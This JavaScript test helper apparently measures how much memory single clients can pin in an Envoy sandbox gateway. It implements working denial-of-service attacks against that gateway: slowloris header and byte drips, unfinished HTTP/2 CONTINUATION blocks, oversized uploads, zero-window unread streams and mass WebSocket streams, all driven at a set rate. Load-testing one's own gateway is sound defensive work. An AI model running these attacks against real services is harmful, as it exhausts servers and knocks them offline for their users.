// What one client can make Envoy hold. Each kind opens one connection, keeps as much on it as it can, and says when Envoy
// closed it. test/attack/streams/memory.test.ts runs the same.
import { connect as connectHttp2 } from 'node:http2';
import { connect as connectTcp } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { frame } from './http2-frame.mjs';

/**
 * @typedef {{ host: string, port: number }} Address
 * @typedef {{ host: string, token: string }} Entry A sandbox that the attacker may use.
 * @typedef {{ http: Address, https: Address, quick: Entry, silent: Entry, firehose: Entry, socket: Entry }} Target
 * @typedef {{ close(): void, closed: Promise<unknown>, opened: Promise<unknown> }} Held
 */

const STREAMS = 100;
const TICK_MS = 10;
const DRIP_MS = 500;
const UPLOAD_BYTES = 262_144;
const TOKEN_NAME = 'e2b-traffic-access-token';
const WEBSOCKET_KEY = 'c2FuZGdhdGUtYXR0YWNrLg==';
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** @type {Readonly<Record<string, (target: Target) => Held>>} */
export const KINDS = {
  'silent-tcp': ({ http }) => raw(http, 'plain'),
  'silent-tls': ({ https }) => raw(https, 'http/1.1'),
  'idle-http1': ({ https, quick }) => raw(https, 'http/1.1', [head('GET', quick)]),
  'idle-http2': ({ https }) => raw(https, 'h2', [PREFACE, frame(SETTINGS, 0, 0)]),
  'heads-http1': ({ http }) => raw(http, 'plain', [`GET / HTTP/1.1\r\nHost: x\r\n${padding()}X-Last: `]),
  'heads-http2': ({ https }) => raw(https, 'h2', [PREFACE, frame(SETTINGS, 0, 0), ...halfHeads()]),
  'uploads-http1': ({ http, silent }) =>
    raw(http, 'plain', [head('POST', silent, 'Content-Length: 1000000000'), Buffer.alloc(UPLOAD_BYTES)]),
  'uploads-http2': ({ https, silent }) =>
    streams(https, silent, { ':method': 'POST' }, (stream) => void stream.write(Buffer.alloc(UPLOAD_BYTES))),
  'unread-http1': ({ http, firehose }) =>
    raw(http, 'plain', [head('GET', firehose)], (socket) => socket.pause()),
  'unread-http2': ({ https, firehose }) => streams(https, firehose, {}, (stream) => void stream.pause()),
  'websockets-http1': ({ http, socket }) => raw(http, 'plain', [upgrade(socket)]),
  'websockets-http2': ({ https, socket }) =>
    streams(https, socket, EXTENDED_CONNECT, (stream) => void stream.resume()),
  // Never idle: a byte every half second.
  'drip-heads': ({ http }) => raw(http, 'plain', [`GET / HTTP/1.1\r\nHost: x\r\n${padding()}X-Last: `], drip),
  'drip-uploads-http1': ({ http, silent }) =>
    raw(
      http,
      'plain',
      [head('POST', silent, 'Content-Length: 1000000000'), Buffer.alloc(UPLOAD_BYTES)],
      drip,
    ),
  'drip-uploads-http2': ({ https, silent }) =>
    streams(https, silent, { ':method': 'POST' }, (stream) => {
      stream.write(Buffer.alloc(UPLOAD_BYTES));
      drip(stream);
    }),
  'drip-websockets': ({ https, socket }) => streams(https, socket, EXTENDED_CONNECT, drip),
};

/** Kinds with many requests on one connection. */
const STREAMED = new Set(
  Object.keys(KINDS).filter((kind) => /^(uploads|unread|websockets)-http2$|^drip-websockets$/.test(kind)),
);

const EXTENDED_CONNECT = { ':method': 'CONNECT', ':protocol': 'websocket', 'sec-websocket-version': '13' };

/**
 * Holds up to `limit` connections of one kind, and opens new ones for those that Envoy closes: at most `rate` requests a
 * second, because a client that may send more than the gate can check needs no memory to be a nuisance.
 * @param {string} kind @param {Target} target @param {number} limit @param {number} rate
 */
export function holdMany(kind, target, limit, rate) {
  const open = KINDS[kind];
  if (open === undefined) throw new Error(`no attack is called ${kind}`);
  const counts = { held: 0, opened: 0, closed: 0 };
  /** @type {Set<Held>} */
  const all = new Set();
  const one = () => {
    const held = open(target);
    all.add(held);
    counts.held = all.size;
    held.opened.then(() => {
      counts.opened += 1;
    });
    held.closed.then(() => {
      all.delete(held);
      counts.closed += 1;
      counts.held = all.size;
    });
  };
  // Without catching up: on a slow machine, the attack is slow too.
  const perTick = ((STREAMED.has(kind) ? rate / STREAMS : rate) * TICK_MS) / 1000;
  let due = 0;
  const timer = setInterval(() => {
    for (due += perTick; due >= 1; due--) if (all.size < limit) one();
  }, TICK_MS);
  return {
    counts,
    stop() {
      clearInterval(timer);
      for (const held of all) held.close();
    },
  };
}

/**
 * @param {Address} at @param {'plain' | 'h2' | 'http/1.1'} protocol
 * @param {readonly (string | Buffer)[]} bytes @param {(socket: import('node:net').Socket) => void} [then]
 * @returns {Held}
 */
function raw(at, protocol, bytes = [], then = (socket) => socket.resume()) {
  const plain = protocol === 'plain';
  const options = { ...at, allowHalfOpen: false };
  const socket = plain
    ? connectTcp(options)
    : connectTls({ ...options, ALPNProtocols: [protocol], rejectUnauthorized: false });
  socket.on('error', () => {});
  const opened = new Promise((resolve) =>
    socket.once(plain ? 'connect' : 'secureConnect', () => {
      for (const part of bytes) socket.write(part);
      then(socket);
      resolve(undefined);
    }),
  );
  const closed = new Promise((resolve) => socket.once('close', resolve));
  return { opened, closed, close: () => socket.destroy() };
}

/**
 * As many streams as Envoy takes on one connection.
 * @param {Address} at @param {Entry} entry @param {Record<string, string>} headers
 * @param {(stream: import('node:http2').ClientHttp2Stream) => void} use
 * @returns {Held}
 */
function streams(at, entry, headers, use) {
  const session = connectHttp2(`https://${at.host}:${at.port}`, {
    rejectUnauthorized: false,
    // Nothing is read: a stream's window is used up, and never renewed.
    settings: { initialWindowSize: 0, enablePush: false },
  });
  session.on('error', () => {});
  const closed = new Promise((resolve) => session.once('close', resolve));
  const opened = new Promise((resolve) =>
    session.once('remoteSettings', () => {
      let left = STREAMS;
      for (let n = 0; n < STREAMS; n++) {
        const stream = session.request({
          ':path': '/',
          ':scheme': 'https',
          ':authority': entry.host,
          [TOKEN_NAME]: entry.token,
          ...headers,
        });
        stream.on('error', () => {});
        // Without a stream left, the connection starts again.
        stream.once('close', () => --left === 0 && session.destroy());
        use(stream);
      }
      resolve(undefined);
    }),
  );
  return { opened, closed, close: () => session.destroy() };
}

/** @param {import('node:stream').Duplex} stream */
function drip(stream) {
  stream.resume();
  const timer = setInterval(() => stream.write('x'), DRIP_MS);
  stream.once('close', () => clearInterval(timer));
}

/** @param {string} method @param {Entry} entry @param {...string} lines */
function head(method, entry, ...lines) {
  const all = [`${method} / HTTP/1.1`, `Host: ${entry.host}`, `${TOKEN_NAME}: ${entry.token}`, ...lines];
  return `${all.join('\r\n')}\r\n\r\n`;
}

/** @param {Entry} entry */
function upgrade(entry) {
  const version = ['Sec-WebSocket-Version: 13', `Sec-WebSocket-Key: ${WEBSOCKET_KEY}`];
  return head('GET', entry, 'Connection: Upgrade', 'Upgrade: websocket', ...version);
}

/** 50 KB of headers, which Envoy accepts. */
function padding() {
  return Array.from({ length: 10 }, (_, n) => `X-${n}: ${'a'.repeat(5000)}\r\n`).join('');
}

const HEADERS = 1;
const SETTINGS = 4;
const CONTINUATION = 9;

/** The same over HTTP/2: a header block without its last frame. */
function halfHeads() {
  const fields = Array.from({ length: 10 }, (_, n) =>
    Buffer.concat([literal(`x-${n}`), string('a'.repeat(5000))]),
  );
  return fields.map((field, n) => frame(n === 0 ? HEADERS : CONTINUATION, 0, 1, field));
}

/** @param {string} name HPACK: a literal field without indexing. */
function literal(name) {
  return Buffer.concat([Buffer.of(0), string(name)]);
}

/** @param {string} text */
function string(text) {
  const length =
    text.length < 127 ? [text.length] : [127, ((text.length - 127) & 127) | 128, (text.length - 127) >> 7];
  return Buffer.concat([Buffer.from(length), Buffer.from(text)]);
}
